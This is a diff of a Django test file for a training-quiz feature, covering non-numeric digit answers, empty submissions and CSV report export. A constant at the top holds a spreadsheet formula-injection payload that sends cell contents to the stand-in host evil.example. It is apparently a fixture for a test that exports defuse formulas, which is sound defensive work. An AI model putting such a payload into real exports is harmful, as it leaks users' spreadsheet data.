@@ -17,12 +17,24 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
 
 def test_a_quiz_answer_that_is_a_digit_but_no_number_counts_as_not_given(client, demo):
     client.force_login(demo.alice)
-    question = QuizQuestion.objects.filter(category_number=1, is_active=True).first()
+    first, *others = QuizQuestion.objects.filter(category_number=1, is_active=True)
     # "²".isdigit() is true, and int("²") raises
-    response = client.post(reverse("training:quiz", args=[1]), {str(question.public_id): "²"})
+    answers = {str(q.public_id): str(q.answer) for q in others} | {str(first.public_id): "²"}
+    response = client.post(reverse("training:quiz", args=[1]), answers)
     assert response.status_code == 200
     attempt = QuizAttempt.objects.get(user=demo.alice)
-    assert attempt.answers[str(question.public_id)] is None
+    assert attempt.answers[str(first.public_id)] is None
+
+
+def test_a_quiz_sent_with_no_answer_is_not_taken(client, demo):
+    """It was stored and audited as a failed attempt, 0 right."""
+    client.force_login(demo.alice)
+    question = QuizQuestion.objects.filter(category_number=1, is_active=True).first()
+    for sent in ({}, {str(question.public_id): "²"}):
+        response = client.post(reverse("training:quiz", args=[1]), sent)
+        assert "Choose an answer to each question, then send them." in response.text
+    assert not QuizAttempt.objects.exists()
+    assert not AuditEvent.objects.filter(action=AuditEvent.Action.TRAINING_QUIZ_TAKEN).exists()
 
 
 def test_the_report_csv_defuses_formulas(client, demo, publish):
